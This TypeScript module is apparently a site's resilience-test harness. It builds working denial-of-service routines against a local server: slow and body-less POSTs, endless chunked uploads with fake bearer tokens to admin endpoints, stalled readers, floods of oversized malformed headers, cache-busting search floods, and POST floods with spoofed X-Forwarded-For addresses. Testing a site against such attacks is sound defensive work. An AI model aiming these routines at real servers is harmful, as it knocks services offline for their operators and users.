/** What one person with a laptop can do to the site: each opens its connections, holds them, and ends them with `stop`. */
import { once } from 'node:events';
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';

export type Attack = { stop(): void; ended(): number };

type Target = { port: number; from: string };

function hold(count: number, { port, from }: Target, begin: (socket: Socket, n: number) => void): Attack {
  let ended = 0;
  const sockets = Array.from({ length: count }, (_, n) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: from });
    socket.on('error', () => {});
    socket.once('close', () => ended++);
    begin(socket, n);
    return socket;
  });
  return {
    ended: () => ended,
    stop: () => {
      for (const socket of sockets) socket.destroy();
    },
  };
}

const postable = [
  '/api/v1/newsletter/subscribe',
  '/api/v1/admin/login',
  '/api/v1/articles/admin',
  '/api/v1/uploads/articles',
  '/api/v1/newsletter/admin/subscribers/import',
];

/** A head that announces a body, and no body; every other with a made-up bearer. */
export function silentRequests(count: number, target: Target): Attack {
  return hold(count, target, (socket, n) => {
    socket.resume();
    const bearer = n % 2 ? 'authorization: Bearer made-up\r\n' : '';
    const head = `POST ${postable[n % postable.length]} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n`;
    socket.write(`${head}${bearer}content-length: 16000\r\n\r\n`);
  });
}

/** Bodies without an end, for calls that need an administrator, with a bearer that is none: half a megabyte each at once, then a trickle. */
export function endlessBodies(count: number, target: Target): Attack {
  const burst = Buffer.alloc(512 * 1024, 'x');
  const trickle = burst.subarray(0, 16 * 1024);
  const paths = postable.slice(2);
  return hold(count, target, (socket, n) => {
    socket.resume();
    const head = `POST ${paths[n % paths.length]} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n`;
    socket.write(`${head}authorization: Bearer made-up\r\ntransfer-encoding: chunked\r\n\r\n`);
    const send = (bytes: Buffer) => {
      socket.write(`${bytes.length.toString(16)}\r\n`);
      socket.write(bytes);
      socket.write('\r\n');
    };
    send(burst);
    const drip = setInterval(() => {
      if (socket.writableLength === 0) send(trickle);
    }, 250);
    socket.once('close', () => clearInterval(drip));
  });
}

/** Asks for a large picture, or for a page many `times` at once, and reads nothing. */
export function stalledReaders(count: number, path: string, target: Target, times = 1): Attack {
  return hold(count, target, (socket) => {
    socket.pause();
    socket.write(`GET ${path} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(times));
  });
}

const long = (piece: string) => piece.repeat(Math.ceil(15_000 / piece.length)).slice(0, 15_000);
const fillings = ['\t', ' ', ',', ';', 'q=1', 'br;', 'br ;q=', '"', '=', '/', ':', 'a@', '[', '=?utf-8?q?'];
const names = [
  'accept-encoding',
  'accept',
  'accept-language',
  'authorization',
  'content-type',
  'cookie',
  'if-none-match',
  'origin',
  'range',
  'user-agent',
  'x-forwarded-for',
  'idempotency-key',
];

/** Every header that anyone may send, filled with what patterns stumble over. */
export const oddHeaders: [name: string, value: string][] = names.flatMap((name) =>
  fillings.map((piece): [string, string] => [name, `x${long(piece)}x`]),
);

/** Asks again and again with odd headers, twenty at a time. */
export function oddRequests(target: Target): Attack {
  const paths = ['/', '/articles', '/favicon.svg', '/api/v1/articles'];
  return askOn(20, target, (turn) => {
    const [name = '', value = ''] = oddHeaders[turn % oddHeaders.length] ?? [];
    return { path: paths[turn % 4] ?? '', headers: { [name]: value } };
  });
}

/** Searches and pages that no one has asked for before, 64 at a time. */
export function searches(target: Target): Attack {
  const paths = ['/articles?search=', '/events?search=', '/nothing/', '/api/v1/articles?search='];
  return askOn(64, target, (turn) => ({ path: `${paths[turn % 4]}${turn}`, headers: {} }));
}

type Question = { path: string; headers: Record<string, string> };

function askOn(atOnce: number, { port, from }: Target, question: (turn: number) => Question): Attack {
  let isOver = false;
  let answered = 0;
  const ask = async (n: number): Promise<void> => {
    for (let turn = n; !isOver; turn += atOnce) {
      const asked = request({ ...question(turn), port, host: '127.0.0.1', localAddress: from, agent: false });
      asked.on('error', () => {});
      asked.end();
      const [response] = await once(asked, 'response').catch(() => []);
      if (response) await once(response.resume(), 'close');
      answered++;
    }
  };
  for (let n = 0; n < atOnce; n++) void ask(n);
  return { ended: () => answered, stop: () => (isOver = true) };
}

type Post = { path: string; body: object; senders?: 'one /48' };

/** Posts on so many connections, on each again as soon as it is answered. */
export function posts(count: number, { path, body, senders }: Post, target: Target): Attack {
  let answered = 0;
  const text = JSON.stringify(body);
  const attack = hold(count, target, (socket, n) => {
    const from = senders === 'one /48' ? `x-forwarded-for: 2001:db8:7:${n.toString(16)}::1\r\n` : '';
    const head = `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n${from}`;
    const post = `${head}content-length: ${text.length}\r\n\r\n${text}`;
    socket.on('data', () => {
      answered++;
      socket.write(post);
    });
    socket.write(post);
  });
  return { ...attack, ended: () => answered };
}
